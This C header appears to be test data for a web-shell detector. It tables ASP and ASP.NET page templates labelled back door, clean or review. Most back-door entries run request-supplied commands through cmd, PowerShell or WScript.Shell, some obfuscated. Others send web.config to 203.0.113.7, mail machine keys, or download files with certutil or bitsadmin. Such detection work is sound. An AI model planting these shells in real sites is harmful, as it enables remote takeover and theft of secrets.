/* Names and orders put together from parts, and ways that take a turn; with honest pages of the same means. The plans of shape_text.h. */
#ifndef TECHNIQUE_PARTS_H
#define TECHNIQUE_PARTS_H

#include "technique.h"

static const struct technique by_parts[] = {
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {foreach (var o in ScriptBlock.Create({r}[\"k\"]).Inv""oke()) "
      "Response.Write(o);}</{s}>",
      "a block of script", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var k = (Machi""neKeySection)ConfigurationManager.GetSection(\"system.web/machi""neKey\")"
      "; new SmtpClient(\"mx\").Send(\"a@b\", \"c@d\", \"k\", k.ValidationKey);}</{s}>",
      "keys by mail", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {new WebClient().UploadString(\"http://203.0.113.7/\", File.ReadAllText(Server.MapPath(\"~/web.c""onfig\")"
      "));}</{s}>",
      "settings sent away", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var h = \"575363726970742e5368656c6c\"; var n = Encoding.ASCII.GetString(En""umerable.Range(0,"
      " h.Length/2).Select(i => Convert.ToByte(h.Substring(i*2,2),16)).ToArray()); dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(n)"
      "); o.Ex""ec({r}[\"k\"]);}</{s}>",
      "pairs of digits, item by item", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var n = new string(\"TP`qjsw-Pkfoo\".Select(c => (char)(c ^ 3)"
      ").ToArray()); dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(n)); o.Run({r}[\"k\"], 0);}</{s}>",
      "letters, item by item", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var n = typeof({p}).FullName; var t = typeof({p}).Asse""mbly.GetType(n)"
      "; t.Inv""oke""Member(\"Start\", BindingFlags.Inv""okeMethod, null, null, new object[]{{r}[\"k\"]});}</{s}>",
      "the name of a class", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var p = new {p}Star""tInfo(\"c""md\"); p.ArgumentList.Add(\"/c\")"
      "; p.ArgumentList.Add({r}[\"k\"]); {p}.Start(p);}</{s}>",
      "a list of arguments", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var p = {p}.Start(new {p}Star""tInfo(\"power""shell\",\"-\"){RedirectStandardInput=true,"
      "UseSh""ell{x}=false}); p.StandardInput.WriteLineAsync({r}[\"k\"]); p.StandardInput.Flush();}</{s}>",
      "input, written later", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var f = Path.Combine(Path.GetTempPath(), Guid.NewGuid() + \".ps1\")"
      "; File.{w}(f, {r}[\"k\"]); {p}.Start(\"power""shell\", \"-ep bypass -f \" + f);}</{s}>",
      "a script of its own name", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var p = {p}.Start(\"bitsadmin\", \"/transfer a \" + {r}[\"u\"] "
      "+ \" C:\\\\inetpub\\\\wwwroot\\\\a.aspx\");}</{s}>",
      "a transfer", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {{p}.Start(\"certutil.exe\", \"-urlcache -f \" + {r}[\"u\"] + "
      "\" a.aspx\");}</{s}>",
      "a certificate tool", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {{p}Star""tInfo p = new() { FileName = \"c""md\", Arguments = "
      "\"/c \" + {r}[\"k\"] }; {p}.Start(p);}</{s}>",
      "new without its type", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var b = new Bus(); b.On += x => {p}.Start(\"c""md\", \"/c \" "
      "+ x); b.Fire({r}[\"k\"]); } class Bus { public event Action<string> On; public void Fire(string s) { On?.Inv""oke(s); } } void Z() {}</{s}>",
      "an event of its own class", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {new B2().Go({r}[\"k\"]); } class A2 { public virtual void Go(string "
      "s) { {p}.Start(\"c""md\", \"/c \" + s); } } class B2 : A2 { public override void Go(string s) { base.Go(s); } } void Z() {}</{s}>",
      "a method of the base", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}\nSet c = Create""Object(\"ADODB.Connection\") : c.Open \"Provider=Microsoft.Jet.OLEDB.4.0;Data Source=c:\\\\a.mdb\" : Set r = c.{x}(\"select "
      "shell('c""md /c \" & {r}(\"k\") & \"')\")\n{c}",
      "a shell of the database", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet c = Create""Object(\"ADODB.Connection\") : c.Open \"Provider=SQLOLEDB\" : c.{x} \"exec msdb..sp_add_jobstep @command='\" & {r}(\"k\")"
      " & \"'\"\n{c}",
      "a job of the database", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nDim a(2)\nSet a(1) = Create""Object(\"WScrip""t.Sh""ell\")\na(1).Run {r}(\"k\")\n{c}",
      "an object in a list", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nFunction D(s)\nc = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\nFor i = 1 To Len(s) Step 4\nn = 0\nFor j "
      "= 0 To 3\nn = n * 64 + InStr(c, Mid(s, i + j, 1)) - 1\nNext\nD = D & Chr((n \\ 65536) And 255) & Chr((n \\ 256) And 255) & Chr(n And 255)"
      "\nNext\nEnd Function\n{x} D({r}(\"k\"))\n{c}",
      "base 64 of its own", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nFunction D(s)\nc = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\nFor i = 1 To Len(s) Step 4\nn = 0\nFor j "
      "= 0 To 3\nn = n * 64 + InStr(1, c, Mid(s, i + j, 1), 0) - 1\nNext\nD = D & Chr((n \\ 65536) And 255) & Chr((n \\ 256) And 255) & Chr(n "
      "And 255)\nNext\nEnd Function\n{x} D(\"RXhlY3V0ZSBSZXF1ZXN0KCJrIikg\")\n{c}",
      "base 64 of its own, fixed", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nSub Page_Lo""ad()\n{p}.Start(\"c""md\", \"/c \" & My.{r}(\"k\"))\nEnd Sub\n</{s}>",
      "the request of My", PAGE_ASPX, PAGE_BACK_DOOR },
    { "@using System.Diagnostics\n@inject Microsoft.AspNetCore.Http.IHttpContextAccessor A\n@{ {p}.Start(\"c""md\", \"/c \" + A.HttpContext.{r}.Query[\"k\"])"
      "; }",
      "a context that is lent", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"{j}\" class=\"F\"{c}\nimport System; import System.Web; public class F implements IHttpHandler { function IHttpHandler.{p}{r}(c "
      ": HttpContext) { {e}(c.{r}[\"k\"], \"{u}\"); } function get IHttpHandler.IsReusable() : Boolean { return true; } }",
      "a handler in another language", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}\na = \"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789\"\ns = UCase({r}(\"code\"))\nFor i = 1 To Len(s)\nIf InStr(a, Mid(s, i, 1)) = 0 Then bad "
      "= True\nNext\nIf bad Then Response.Write \"No such code\" Else Response.Write \"Code \" & s\n{c}",
      "letters that are allowed", PAGE_ASP, PAGE_CLEAN },
    { "{o}\na = \"ABCDEFGHIJKLMNOPQRSTUVWXYZ\"\ns = UCase({r}(\"name\"))\nFor i = 1 To Len(s)\nn = InStr(a, Mid(s, i, 1)) + 3\nt = t & Mid(a & "
      "a, n, 1)\nNext\nResponse.Write t\n{c}",
      "a code by letters", PAGE_ASP, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var l = En""umerable.Range(1, 9).Select(x => x * x).ToArray()"
      "; Response.Write(string.Join(\", \", l)); var n = \"abc\".Select(c => (char)(c + 1)).ToArray(); Response.Write(new string(n));}</{s}>",
      "squares", PAGE_ASPX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class Bus { public event Action<string> On; public void Fire(string s) { On?.Inv""oke(s); } } void Page_Lo""ad()"
      " { var b = new Bus(); b.On += x => Response.Write(Server.HtmlEncode(x)); b.Fire({r}[\"k\"]); }</{s}>",
      "a bus of its own", PAGE_ASPX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class A : Control { protected override void Render(HtmlTextWriter w) { w.Write(\"<b>\"); base.Render(w)"
      "; w.Write(\"</b>\"); } } void Page_Lo""ad() { Controls.Add(new A()); }</{s}>",
      "a base that draws", PAGE_ASPX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var p = new {p}Star""tInfo(Server.MapPath(\"~/tools/resize.exe\")"
      "); p.ArgumentList.Add(\"-w\"); p.ArgumentList.Add(int.Parse({r}[\"w\"]).ToString()); {p}.Start(p).WaitForExit();}</{s}>",
      "a picture tool", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {List<string> l = new() { \"a\", {r}[\"k\"] }; StringBuilder b "
      "= new(); foreach (var x in l) b.Append(HttpUtility.HtmlEncode(x)); Response.Write(b);}</{s}>",
      "new without a name", PAGE_ASPX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nSub Page_Lo""ad()\nResponse.Write(\"Hello \" & Server.HtmlEncode(My.{r}(\"name\")) & My.User.Name)\nEnd "
      "Sub\n</{s}>",
      "a greeting", PAGE_ASPX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var m = new MailMessage(\"shop@bakery.example\", \"office@bakery.example\")"
      " { Subject = \"Order\", Body = {r}[\"text\"] }; new SmtpClient(ConfigurationManager.AppSettings[\"smtp\"]).Send(m);}</{s}>",
      "a letter to the office", PAGE_ASPX, PAGE_CLEAN },
    { "{o}\nDim a(2)\nSet a(1) = Create""Object(\"Scri""pting.Dictionary\")\na(1).Add \"k\", {r}(\"k\")\nResponse.Write Server.HTMLEncode(a(1)"
      "(\"k\"))\n{c}",
      "a list of objects", PAGE_ASP, PAGE_CLEAN },
    { "{o}\ns = \"apples|pears|plums\"\nFor Each x In Split(s, \"|\")\nIf InStr(x, {r}(\"q\")) > 0 Then Response.Write x & \"<br>\"\nNext\n{c}",
      "a letter in a list", PAGE_ASP, PAGE_CLEAN },
    { "@inject Microsoft.AspNetCore.Http.IHttpContextAccessor A\n@{ var q = A.HttpContext.{r}.Query[\"q\"].ToString(); }\n<p>@q</p>",
      "who asks", PAGE_RAZOR_CS, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {Trace.Write(GetType().Name + \" \" + typeof(Page).FullName); "
      "Response.Write(typeof(Page).Asse""mbly.FullName);}</{s}>",
      "a name of its class", PAGE_ASPX, PAGE_CLEAN },
};

#endif
